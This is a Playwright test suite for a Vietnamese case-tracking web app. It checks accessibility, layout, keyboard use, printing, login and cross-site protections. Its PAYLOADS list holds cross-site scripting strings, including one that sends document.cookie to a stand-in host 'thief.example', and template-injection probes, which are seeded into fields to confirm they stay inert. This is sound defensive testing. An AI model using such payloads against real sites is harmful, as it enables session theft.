"""Each page in a real Chromium: accessible, narrow, zoomed, printed, by keyboard alone, with and without JavaScript;
and hostile words in every field without effect."""

import re
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager

import pytest
from axe_playwright_python.async_playwright import Axe
from playwright.async_api import Browser, Page, expect

from reporting.web.app import make_app
from tests.web.conftest import PASSWORD
from tests.web.serving import HOSTS, Served, serving
from tests.web.worlds import Ward, build_ward

pytestmark = pytest.mark.browser

PAGES = (
    "/",
    "/ho-so",
    "/ho-so?chi-tieu=overdue&cot=ma,han,can-bo&xep=-chu",
    "/ho-so/1",
    "/don-doc",
    "/bao-cao",
    "/bao-cao/2026-09",
    "/bao-cao/2026-09/muoi-hai-thang",
    "/bao-cao/2026-09/loi-van",
    "/bao-cao/2026-09/xem-truoc",
    "/doi-soat",
    "/cong",
    "/nhat-ky",
    "/nhat-ky/1",
    "/nhat-ky/viec",
    "/nhat-ky/thu",
    "/nhat-ky/da-chan",
    "/nhat-ky/truy-cap",
    "/viec/1",
    "/cai-dat",
    "/he-thong",
    "/tro-giup",
    "/khong-co",
)
WCAG = {
    "resultTypes": ["violations"],
    "runOnly": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"],
}


@asynccontextmanager
async def _open(browser: Browser, *, width: int = 1280, script: bool = True, scale: float = 1) -> AsyncIterator[Page]:
    context = await browser.new_context(
        viewport={"width": width, "height": 900}, java_script_enabled=script, device_scale_factor=scale, locale="vi-VN"
    )
    try:
        yield await context.new_page()
    finally:
        await context.close()


@pytest.mark.parametrize("path", PAGES)
async def test_a_page_is_accessible_wide_and_narrow_and_loads_nothing_from_outside(
    chromium: Browser, served: Served, path: str
) -> None:
    async with _open(chromium) as page:
        asked: list[str] = []
        said: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.on("console", lambda message: said.append(message.text) if message.type == "error" else None)
        await page.goto(served.origin + path)
        assert all(url.startswith(served.origin) for url in asked), asked
        assert not [line for line in said if "404" not in line and "400" not in line], said
        for width in (1280, 640, 320):  # 640: 1280 at 200 %
            await page.set_viewport_size({"width": width, "height": 900})
            beyond = await page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
            assert beyond <= 0, (path, width)
        for width in (320, 1280):
            await page.set_viewport_size({"width": width, "height": 900})
            found = await Axe().run(page, options=WCAG)
            assert found.violations_count == 0, found.generate_report()


@pytest.mark.parametrize("script", [True, False])
async def test_from_the_number_to_the_dossier(chromium: Browser, served: Served, script: bool) -> None:
    async with _open(chromium, script=script) as page:
        await page.goto(served.origin)
        await page.locator(".figure", has_text="quá hạn").locator("a").first.click()
        await expect(page.locator("h1")).to_have_text("Quá hạn")
        await page.fill("#tim", "khai sinh")
        await page.click("text=Tìm >> nth=-1") if not script else await page.press("#tim", "Enter")
        await page.wait_for_url(re.compile("tim=khai"))
        await page.goto(f"{served.origin}/ho-so?trang-thai=tat-ca")
        await page.click("a[rel=next]")
        await expect(page.locator("a[rel=prev]")).to_be_visible()
        await page.click("thead .c-ma a")
        await expect(page.locator("th.c-ma[aria-sort]")).to_have_attribute("aria-sort", "ascending")
        await page.locator("tbody th.c-ma a").first.click()
        await expect(page.locator("#dong-thoi-gian")).to_be_visible()


async def test_filters_change_the_list_at_once_where_there_is_javascript(chromium: Browser, served: Served) -> None:
    async with _open(chromium) as page:
        await page.goto(f"{served.origin}/ho-so")
        before = await page.inner_text("#so-dong")
        await page.select_option("#chi-tieu", "overdue")
        await page.wait_for_url(re.compile("chi-tieu=overdue"))
        await expect(page.locator("#so-dong")).not_to_have_text(before)


async def test_the_main_path_by_keyboard_alone(chromium: Browser, served: Served) -> None:
    async with _open(chromium) as page:
        await page.goto(served.origin)
        await page.keyboard.press("Tab")
        assert "Bỏ qua danh mục" in await page.evaluate("document.activeElement.textContent")
        await page.keyboard.press("Enter")
        for _ in range(60):
            await page.keyboard.press("Tab")
            href = await page.evaluate("document.activeElement.getAttribute('href') || ''")
            box = await page.evaluate("JSON.stringify(document.activeElement.getBoundingClientRect())")
            assert '"width":0,' not in box
            if "chi-tieu=overdue" in href:
                break
        await page.keyboard.press("Enter")
        await page.wait_for_url(re.compile("chi-tieu=overdue"))


async def test_a_narrow_page_opens_its_menu_by_keyboard_without_javascript(chromium: Browser, served: Served) -> None:
    async with _open(chromium, width=320, script=False) as page:
        await page.goto(served.origin)
        assert not await page.is_visible("nav >> text=Hồ sơ")
        await page.focus("#mo-danh-muc")
        await page.keyboard.press("Space")
        await expect(page.locator("nav[aria-label='Các trang'] >> text=Hồ sơ").first).to_be_visible()


@pytest.mark.parametrize("path", ["/", "/ho-so?chi-tieu=overdue", "/ho-so/1", "/bao-cao/2026-09", "/don-doc"])
async def test_a_page_prints_without_what_only_a_screen_needs(chromium: Browser, served: Served, path: str) -> None:
    async with _open(chromium) as page:
        await page.goto(served.origin + path)
        pdf = await page.pdf()
        assert pdf.startswith(b"%PDF")
        await page.emulate_media(media="print")
        for gone in ("nav[aria-label='Các trang']", ".filters", ".pages"):
            if await page.locator(gone).count():
                assert not await page.locator(gone).first.is_visible(), gone
        assert await page.is_visible(".trust")  # the data's time is printed too
        assert await page.is_visible(".today")


async def test_an_open_page_turns_stale_by_itself(chromium: Browser, served: Served) -> None:
    async with _open(chromium) as page:
        await page.clock.install()
        await page.goto(served.origin)
        assert await page.locator(".trust.fresh").count()
        await page.clock.run_for(6 * 3600 * 1000)
        await expect(page.locator(".trust")).to_have_class(re.compile("old"))
        await page.clock.run_for(30 * 3600 * 1000)
        await expect(page.locator(".trust strong")).to_have_text("KHÔNG DÙNG để báo cáo.")


@pytest.mark.parametrize("script", [True, False])
async def test_logging_in_and_out(chromium: Browser, guarded: Served, script: bool) -> None:
    async with _open(chromium, script=script) as page:
        await page.goto(f"{guarded.origin}/ho-so?chi-tieu=overdue")
        await page.fill("#ten", "look")
        await page.fill("#mat-khau", "không đúng đâu nhé")
        await page.keyboard.press("Enter")
        await expect(page.locator("[role=alert]")).to_contain_text("chưa đúng")
        await page.fill("#mat-khau", PASSWORD)
        await page.keyboard.press("Enter")
        await page.wait_for_url(re.compile("chi-tieu=overdue"))
        await page.click("text=Đăng xuất")
        await page.goto(f"{guarded.origin}/")
        await expect(page.locator("h1")).to_have_text("Đăng nhập")


async def test_the_log_in_page_is_accessible(chromium: Browser, guarded: Served) -> None:
    async with _open(chromium) as page:
        await page.goto(f"{guarded.origin}/dang-nhap")
        assert (await Axe().run(page, options=WCAG)).violations_count == 0


async def test_a_foreign_page_changes_nothing(chromium: Browser, served: Served, ward: Ward) -> None:
    begun = ward.examiner.begun
    async with _open(chromium) as page:
        foreign = served.origin.replace("127.0.0.1", "localhost")
        await page.goto(f"{foreign}/tro-giup")  # another site than 127.0.0.1 to the browser
        status = await page.evaluate(
            "url => fetch(url, {method: 'POST', mode: 'no-cors'}).then(() => 'sent', () => 'refused')",
            f"{served.origin}/he-thong/kiem-tra",
        )
        assert status == "refused"  # our own policy lets no page of ours ask another host
        await page.goto("about:blank")
        await page.set_content(
            f"<form method=post action='{served.origin}/he-thong/kiem-tra'><button>x</button></form>"
        )
        async with page.expect_response(lambda answer: answer.url.endswith("kiem-tra")) as answered:
            await page.click("button")
        assert (await answered.value).status == 403
    assert ward.examiner.begun == begun


PAYLOADS = (
    "<img src=x onerror=\"fetch('//thief.example/'+document.cookie)\">",
    '"><script>alert(1)</script><svg onload=alert(2)>',
    "javascript:alert(3)//",
    "'-alert(4)-'{{7*7}}{% raw %}</title></textarea></select><iframe src=//thief.example>",
)


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """The busy ward with a payload in every text that comes from outside."""
    count = 0

    def poison(words: str) -> str:
        nonlocal count
        count += 1
        if "@" in words:
            return words
        return f"{PAYLOADS[count % len(PAYLOADS)]}{words}" if count % 4 != 2 else PAYLOADS[2]

    made = build_ward(tmp_path_factory.mktemp("hostile"), words=poison)
    with serving(make_app(made.desk, HOSTS)) as running:
        yield running
    made.close()


async def test_hostile_words_in_every_field_stay_words(chromium: Browser, hostile: Served) -> None:
    async with _open(chromium) as page:
        happened: list[str] = []
        page.on("dialog", lambda dialog: happened.append(f"dialog {dialog.message}"))
        page.on("pageerror", lambda error: happened.append(f"error {error}"))
        page.on("popup", lambda popup: happened.append(f"popup {popup.url}"))
        page.on(
            "request",
            lambda request: None if request.url.startswith(hostile.origin) else happened.append(request.url),
        )
        page.on(
            "console",
            lambda message: happened.append(message.text) if "Content Security Policy" in message.text else None,
        )
        for path in (*PAGES, "/ho-so?trang-thai=tat-ca&cot=ma,thu-tuc,chu,phong,can-bo,linh-vuc,cong,trang-thai"):
            await page.goto(hostile.origin + path)
            planted = "img[src=x], iframe, [onerror], [onload], a[href^='javascript:']"
            assert await page.locator(planted).count() == 0, path
            assert "49" not in await page.title()
        assert not happened
